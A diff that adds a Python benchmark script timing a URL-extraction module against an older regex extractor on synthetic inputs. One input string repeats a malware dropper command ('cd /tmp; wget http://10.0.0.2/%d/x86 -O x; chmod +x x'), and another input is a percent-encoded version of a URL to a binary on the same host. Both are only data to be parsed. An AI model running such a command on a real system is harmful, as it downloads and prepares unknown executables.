@@ -0,0 +1,78 @@
+#!/usr/bin/env python3
+"""
+Measures URLParserReemitterModule's throughput finding URLs in downloaded
+content, in MB/s, for:
+
+ previous - the previous extractor, whose pattern tries for a terminator
+     after every character of a URL, decoding every URL it finds
+ current - the module's find_urls_in_bytes
+ limited - the same, stopping at --limit distinct URLs
+"""
+
+import argparse
+import os
+import re
+import time
+import urllib.parse
+
+from recursid.modules.BuiltinReemitterModules import \
+        URLParserReemitterModule
+
+PREVIOUS_RE = re.compile(rb"(https?(?::|%3A)(?:/|%2F)(?:/|%2F).*?)"
+        rb"(?:\+|\s|%20|;|%3b|\"|%22|\'|%27|$)")
+
+def previous_find_urls(data):
+    def byte_unquoter(url):
+        if b"://" in url:
+            return url
+        return urllib.parse.unquote_to_bytes(url)
+    return [byte_unquoter(url) for url in PREVIOUS_RE.findall(data)]
+
+def repeat(template, size):
+    """
+    template filled in with increasing numbers, up to size bytes, with
+    a few hundred distinct lines repeating
+    """
+    lines = [template % (num,) for num in range(500)]
+    return (b"".join(lines) * (size // len(b"".join(lines)) + 1))[:size]
+
+def payloads(size):
+    return {
+        "binary": os.urandom(size),
+        "text": repeat(b"GET /index%d HTTP/1.1 Host: http server\n", size),
+        "script": repeat(b"cd /tmp; wget http://10.0.0.2/%d/x86 -O x; "
+                b"chmod +x x\n", size),
+        "html": repeat(b"<a href=\"https://example.com/page?q=%d\">link</a> "
+                b"text text\n", size),
+        "encoded": repeat(b"http%%3A%%2F%%2F10.0.0.2%%2Fx86%%3Fa%%3D%d%%20 ",
+                size),
+        }
+
+def throughput(func, data, rounds):
+    best = float("inf")
+    for _ in range(rounds):
+        st_time = time.perf_counter()
+        func(data)
+        best = min(best, time.perf_counter() - st_time)
+    return len(data) / best / 1e6
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__,
+            formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser.add_argument("--size", type=int, default=1024 * 1024)
+    parser.add_argument("--rounds", type=int, default=5)
+    parser.add_argument("--limit", type=int, default=100)
+    args = parser.parse_args()
+
+    mod = URLParserReemitterModule(0, None, None, None, None)
+    print("{:<8} {:>13} {:>12} {:>12}".format("content", "previous MB/s",
+            "current MB/s", "limited MB/s"))
+    for name, data in payloads(args.size).items():
+        print("{:<8} {:>13.0f} {:>12.0f} {:>12.0f}".format(name,
+                throughput(previous_find_urls, data, args.rounds),
+                throughput(mod.find_urls_in_bytes, data, args.rounds),
+                throughput(lambda data: mod.find_urls_in_bytes(data,
+                    args.limit), data, args.rounds)))
+
+if __name__ == "__main__":
+    main()